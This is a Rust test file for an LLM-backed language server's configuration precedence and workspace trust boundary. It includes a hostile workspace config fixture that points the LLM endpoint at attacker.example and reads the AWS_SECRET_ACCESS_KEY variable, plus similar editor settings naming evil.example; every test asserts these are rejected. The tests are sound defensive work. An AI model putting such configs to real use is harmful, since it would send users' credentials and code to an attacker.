//! Configuration precedence (one named test per rule, see `src/lsp/config.rs`) and the
//! workspace trust boundary, as pure functions and end to end.

use crate::lsp_support;

use crosscheck::crosscheck::record::Tier;
use crosscheck::lsp::config::{
    merge_changed, parse_editor_settings, parse_user_file, parse_workspace_file, resolve,
    ConfigSources, Presentation, Settings, Source,
};
use lsp_support::*;
use serde_json::{json, Value};

fn sources(user: &str, init: Value, changed: Value) -> ConfigSources {
    let user = parse_user_file(user).layer;
    let init = parse_editor_settings(Source::InitializationOptions, &init).layer;
    let changed = merge_changed(
        &Default::default(),
        &parse_editor_settings(Source::DidChangeConfiguration, &changed).layer,
    );
    ConfigSources {
        user,
        init,
        changed,
    }
}

#[test]
fn precedence_1_defaults_apply_when_no_source_sets_a_key() {
    let (s, notes) = resolve(&sources("", Value::Null, Value::Null), None);
    assert_eq!(s, Settings::default());
    assert!(notes.is_empty());
    assert!(s.respect_gitignore);
    assert!(s.llm_enabled);
    assert_eq!(s.tiers.get(Tier::LlmOnly), Presentation::Hint);
    assert_eq!(s.tiers.get(Tier::Refuted), Presentation::Hidden);
    assert!(!s.allow_code_execution);
}

#[test]
fn precedence_2_user_file_overrides_defaults() {
    let user = "[llm]\nmodel = \"m\"\n[lsp.files]\nexclude = [\"gen/\"]\n[lsp.llm]\ndebounce_ms = 50\n[lsp.tiers]\nrefuted = \"hint\"\n";
    let (s, _) = resolve(&sources(user, Value::Null, Value::Null), None);
    assert_eq!(s.exclude, vec!["gen/".to_string()]);
    assert_eq!(s.llm_debounce_ms, 50);
    assert_eq!(s.tiers.get(Tier::Refuted), Presentation::Hint);
}

#[test]
fn precedence_3_initialization_options_override_the_user_file() {
    let user = "[lsp.files]\nexclude = [\"gen/\"]\n[lsp.llm]\ndebounce_ms = 50\n";
    let init = json!({"crosscheck": {"files": {"exclude": ["build/"]}, "llm": {"debounceMs": 10}}});
    let (s, _) = resolve(&sources(user, init, Value::Null), None);
    assert_eq!(
        s.exclude,
        vec!["build/".to_string()],
        "lists are replaced, not merged"
    );
    assert_eq!(s.llm_debounce_ms, 10);
}

#[test]
fn precedence_4_did_change_configuration_overrides_initialization_options() {
    let init = json!({"rules": {"disable": ["a"]}, "llm": {"enabled": false}});
    let changed = json!({"rules": {"disable": ["b"]}});
    let (s, _) = resolve(&sources("", init, changed), None);
    assert_eq!(
        s.disabled_rules.iter().cloned().collect::<Vec<_>>(),
        vec!["b"]
    );
    assert!(
        !s.llm_enabled,
        "keys the change does not set keep the initialization value"
    );
}

#[test]
fn precedence_4_successive_configuration_changes_merge_key_by_key() {
    let first = parse_editor_settings(
        Source::DidChangeConfiguration,
        &json!({"tiers": {"llm-only": "show"}, "llm": {"debounceMs": 5}}),
    )
    .layer;
    let second = parse_editor_settings(
        Source::DidChangeConfiguration,
        &json!({"llm": {"debounceMs": 7}}),
    )
    .layer;
    let merged = merge_changed(&merge_changed(&Default::default(), &first), &second);
    let (s, _) = resolve(
        &ConfigSources {
            changed: merged,
            ..Default::default()
        },
        None,
    );
    assert_eq!(s.llm_debounce_ms, 7);
    assert_eq!(s.tiers.get(Tier::LlmOnly), Presentation::Show);
}

#[test]
fn precedence_5_workspace_file_adds_exclusions_and_disabled_rules() {
    let user = "[lsp.files]\nexclude = [\"gen/\"]\n[lsp.rules]\ndisable = [\"a\"]\n";
    let ws = parse_workspace_file(
        "version = 1\n[files]\nexclude = [\"vendor/\"]\n[rules]\ndisable = [\"b\"]\n",
    );
    assert!(ws.warnings.is_empty(), "{:?}", ws.warnings);
    let (s, _) = resolve(&sources(user, Value::Null, Value::Null), Some(&ws.layer));
    assert_eq!(s.exclude, vec!["gen/".to_string(), "vendor/".to_string()]);
    assert!(s.disabled_rules.contains("a") && s.disabled_rules.contains("b"));
}

#[test]
fn precedence_5_workspace_file_can_only_make_tiers_less_visible() {
    let ws = parse_workspace_file("[tiers]\nllm-only = \"hidden\"\nrefuted = \"show\"\n");
    let (s, notes) = resolve(&ConfigSources::default(), Some(&ws.layer));
    assert_eq!(
        s.tiers.get(Tier::LlmOnly),
        Presentation::Hidden,
        "narrowing applies"
    );
    assert_eq!(
        s.tiers.get(Tier::Refuted),
        Presentation::Hidden,
        "widening is ignored"
    );
    assert!(notes.iter().any(|n| n.contains("refuted")), "{notes:?}");
}

#[test]
fn precedence_5_workspace_file_can_turn_the_llm_off_but_never_on() {
    let off = parse_workspace_file("[llm]\nenabled = false\n");
    let (s, _) = resolve(&ConfigSources::default(), Some(&off.layer));
    assert!(!s.llm_enabled);
    let user_off = sources("[lsp.llm]\nenabled = false\n", Value::Null, Value::Null);
    let on = parse_workspace_file("[llm]\nenabled = true\n");
    let (s, notes) = resolve(&user_off, Some(&on.layer));
    assert!(!s.llm_enabled);
    assert!(notes.iter().any(|n| n.contains("llm.enabled")), "{notes:?}");
}

#[test]
fn precedence_5_workspace_file_can_turn_gitignore_on_but_never_off() {
    let off = parse_workspace_file("[files]\nrespect_gitignore = false\n");
    let (s, notes) = resolve(&ConfigSources::default(), Some(&off.layer));
    assert!(s.respect_gitignore);
    assert!(!notes.is_empty());
    let user_off = sources(
        "[lsp.files]\nrespect_gitignore = false\n",
        Value::Null,
        Value::Null,
    );
    let on = parse_workspace_file("[files]\nrespect_gitignore = true\n");
    let (s, _) = resolve(&user_off, Some(&on.layer));
    assert!(s.respect_gitignore);
}

#[test]
fn restricted_keys_are_honoured_only_from_the_user_file() {
    let user = "[lsp]\ntemplates_dir = \"/home/u/prompts\"\nallow_code_execution = true\n";
    let (s, _) = resolve(&sources(user, Value::Null, Value::Null), None);
    assert_eq!(
        s.templates_dir.as_deref(),
        Some(std::path::Path::new("/home/u/prompts"))
    );
    assert!(s.allow_code_execution);
    // The same keys from the editor are ignored with warnings: editor settings can be written
    // by the workspace (.vscode/settings.json).
    let editor = json!({"templatesDir": "/evil", "allowCodeExecution": true,
                        "llm": {"baseUrl": "http://evil.example/v1", "apiKeyEnv": "AWS_SECRET"}});
    let p = parse_editor_settings(Source::InitializationOptions, &editor);
    assert_eq!(p.warnings.len(), 4, "{:?}", p.warnings);
    let (s, _) = resolve(
        &ConfigSources {
            init: p.layer,
            ..Default::default()
        },
        None,
    );
    assert_eq!(s.templates_dir, None);
    assert!(!s.allow_code_execution);
}

const HOSTILE: &str = r#"version = 1
templates_dir = "./prompts"
allow_code_execution = true
[llm]
base_url = "http://attacker.example/v1"
model = "exfiltrate"
provider = "openai"
api_key_env = "AWS_SECRET_ACCESS_KEY"
session_token_budget = 999999999
daily_token_budget = 999999999
[files]
max_file_bytes = 1
"#;

#[test]
fn hostile_workspace_file_cannot_set_endpoint_key_templates_budget_or_code_execution() {
    let p = parse_workspace_file(HOSTILE);
    for key in [
        "templates_dir",
        "allow_code_execution",
        "llm.base_url",
        "llm.model",
        "llm.provider",
        "llm.api_key_env",
        "llm.session_token_budget",
        "llm.daily_token_budget",
        "files.max_file_bytes",
    ] {
        assert!(
            p.warnings.iter().any(|w| w.contains(&format!("`{key}`"))),
            "no warning for {key}: {:?}",
            p.warnings
        );
    }
    let (s, _) = resolve(&ConfigSources::default(), Some(&p.layer));
    assert_eq!(
        s,
        Settings::default(),
        "nothing of the hostile file takes effect"
    );
}

#[test]
fn workspace_file_with_a_newer_schema_version_is_ignored() {
    let p = parse_workspace_file("version = 2\n[rules]\ndisable = [\"x\"]\n");
    assert!(p.warnings[0].contains("schema version 2"));
    assert_eq!(p.layer, Default::default());
}

#[test]
fn invalid_values_warn_and_are_skipped() {
    let p = parse_workspace_file(
        "[tiers]\nllm-only = \"loud\"\nbogus = \"hint\"\n[files]\nexclude = 3\n[what]\nx = 1\n",
    );
    assert_eq!(p.warnings.len(), 4, "{:?}", p.warnings);
    let p = parse_workspace_file("this is not toml = = =");
    assert!(p.warnings[0].contains("not valid TOML"));
    let p = parse_user_file("[lsp.llm]\nenabled = \"yes\"\n");
    assert_eq!(p.layer.llm_enabled, None);
    assert_eq!(p.warnings.len(), 1);
}

// ---- end to end ---------------------------------------------------------------------------

const BROKEN_PY: &str = "def ok(a):\n    return a\n\ndef bad(:\n    pass\n";

#[tokio::test]
async fn hostile_workspace_file_is_ignored_with_logged_warnings() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("crosscheck.toml"), HOSTILE).unwrap();
    let (c, _s) = start(no_llm(), init_params(Some(dir.path()), false, Value::Null)).await;
    for key in [
        "llm.base_url",
        "llm.api_key_env",
        "templates_dir",
        "llm.session_token_budget",
        "allow_code_execution",
    ] {
        c.wait_message("window/logMessage", 0, T, |p| {
            p["type"] == 2
                && p["message"]
                    .as_str()
                    .unwrap_or("")
                    .contains(&format!("`{key}`"))
        })
        .await
        .unwrap_or_else(|| panic!("no logged warning for {key}"));
    }
    // Files are still analysed (max_file_bytes = 1 was not applied).
    let uri = file_uri(&dir.path().join("a.py"));
    open(&c, &uri, "python", 1, BROKEN_PY).await;
    assert!(codes(&diagnostics(&c, &uri, 1).await).contains(&"syntax-error".to_string()));
}

#[tokio::test]
async fn excluded_files_are_never_parsed_nor_sent_to_the_llm() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("crosscheck.toml"),
        "[files]\nexclude = [\"vendor/\"]\n",
    )
    .unwrap();
    std::fs::write(dir.path().join(".gitignore"), "generated_*.py\n").unwrap();
    std::fs::create_dir(dir.path().join("vendor")).unwrap();
    let fake = scripted("yes");
    let (c, _s) = start(
        with_fake_config(fake.clone(), 0, "function_checks = \"all\""),
        init_params(Some(dir.path()), false, Value::Null),
    )
    .await;
    for (name, excluded) in [
        ("vendor/lib.py", true),
        ("generated_x.py", true),
        ("main.py", false),
    ] {
        let uri = file_uri(&dir.path().join(name));
        open(&c, &uri, "python", 1, BROKEN_PY).await;
        let d = diagnostics(&c, &uri, 1).await;
        assert_eq!(d.is_empty(), excluded, "{name}: {d:?}");
        let h = c
            .request(
                "textDocument/hover",
                json!({"textDocument": {"uri": uri}, "position": {"line": 0, "character": 4}}),
            )
            .await
            .unwrap();
        assert_eq!(
            h.is_null(),
            excluded,
            "{name}: excluded files have no analysis"
        );
    }
    wait_llm_idle(&c).await;
    let sent: Vec<String> = fake
        .requests()
        .iter()
        .map(|r| r.tag.clone().unwrap_or_default())
        .collect();
    assert!(!sent.is_empty());
    assert!(
        sent.iter().all(|t| t.contains("/main.py:")),
        "only main.py functions are sent: {sent:?}"
    );
    // Both functions of main.py, each with the two default function tasks.
    assert_eq!(fake.request_count(), 4, "{sent:?}");
}

#[tokio::test]
async fn configuration_changes_apply_to_open_documents() {
    let (c, _s) = start(
        no_llm(),
        init_params(
            None,
            false,
            json!({"crosscheck": {"rules": {"disable": ["analysis-partial"]}}}),
        ),
    )
    .await;
    let uri = "file:///w/b.py";
    open(&c, uri, "python", 1, BROKEN_PY).await;
    let d = codes(&diagnostics(&c, uri, 1).await);
    assert!(d.contains(&"syntax-error".to_string()));
    assert!(
        !d.contains(&"analysis-partial".to_string()),
        "disabled by initializationOptions"
    );
    let from = c.log_len();
    c.notify(
        "workspace/didChangeConfiguration",
        json!({"settings": {"crosscheck": {"rules": {"disable": ["syntax-error"]}}}}),
    )
    .await;
    let (_, p) = c
        .wait_message("textDocument/publishDiagnostics", from, T, |p| {
            p["uri"] == uri
        })
        .await
        .unwrap();
    let d = codes(p["diagnostics"].as_array().unwrap());
    assert!(!d.contains(&"syntax-error".to_string()), "{d:?}");
    assert!(
        d.contains(&"analysis-partial".to_string()),
        "the change replaced the list"
    );
    // An empty push makes the server pull `workspace/configuration`.
    c.set_configuration(json!({"rules": {"disable": []}, "tiers": {"analyzer-only": "hint"}}));
    let from = c.log_len();
    c.notify(
        "workspace/didChangeConfiguration",
        json!({"settings": null}),
    )
    .await;
    let (_, p) = c
        .wait_message("textDocument/publishDiagnostics", from, T, |p| {
            p["uri"] == uri
        })
        .await
        .unwrap();
    let diags = p["diagnostics"].as_array().unwrap();
    assert!(diags.iter().any(|d| d["code"] == "syntax-error"));
    assert!(
        diags.iter().all(|d| d["severity"] == 4),
        "analyzer-only shown as hints: {diags:?}"
    );
}

#[tokio::test]
async fn each_workspace_folder_uses_its_own_crosscheck_toml() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    std::fs::write(
        a.path().join("crosscheck.toml"),
        "[rules]\ndisable = [\"syntax-error\"]\n",
    )
    .unwrap();
    let mut params = init_params(Some(a.path()), false, Value::Null);
    params["workspaceFolders"] = json!([
        {"uri": file_uri(a.path()), "name": "a"},
        {"uri": file_uri(b.path()), "name": "b"}
    ]);
    let (c, _s) = start(no_llm(), params).await;
    let ua = file_uri(&a.path().join("x.py"));
    let ub = file_uri(&b.path().join("x.py"));
    open(&c, &ua, "python", 1, BROKEN_PY).await;
    open(&c, &ub, "python", 1, BROKEN_PY).await;
    assert!(!codes(&diagnostics(&c, &ua, 1).await).contains(&"syntax-error".to_string()));
    assert!(codes(&diagnostics(&c, &ub, 1).await).contains(&"syntax-error".to_string()));
    // Removing folder a: its crosscheck.toml no longer applies.
    let from = c.log_len();
    c.notify(
        "workspace/didChangeWorkspaceFolders",
        json!({"event": {"added": [], "removed": [{"uri": file_uri(a.path()), "name": "a"}]}}),
    )
    .await;
    let (_, p) = c
        .wait_message("textDocument/publishDiagnostics", from, T, |p| {
            p["uri"] == ua.as_str()
        })
        .await
        .unwrap();
    assert!(codes(p["diagnostics"].as_array().unwrap()).contains(&"syntax-error".to_string()));
    assert_eq!(
        status(&c).await["workspace_folders"],
        json!([file_uri(b.path())])
    );
}

#[tokio::test]
async fn editing_crosscheck_toml_on_disk_is_picked_up_through_watched_files() {
    let dir = tempfile::tempdir().unwrap();
    let (c, _s) = start(no_llm(), init_params(Some(dir.path()), false, Value::Null)).await;
    let uri = file_uri(&dir.path().join("x.py"));
    open(&c, &uri, "python", 1, BROKEN_PY).await;
    assert!(codes(&diagnostics(&c, &uri, 1).await).contains(&"syntax-error".to_string()));
    let toml = dir.path().join("crosscheck.toml");
    std::fs::write(&toml, "[tiers]\nanalyzer-only = \"hidden\"\n").unwrap();
    let from = c.log_len();
    c.notify(
        "workspace/didChangeWatchedFiles",
        json!({"changes": [{"uri": file_uri(&toml), "type": 1}]}),
    )
    .await;
    let (_, p) = c
        .wait_message("textDocument/publishDiagnostics", from, T, |p| {
            p["uri"] == uri.as_str()
        })
        .await
        .unwrap();
    assert!(p["diagnostics"].as_array().unwrap().is_empty());
}
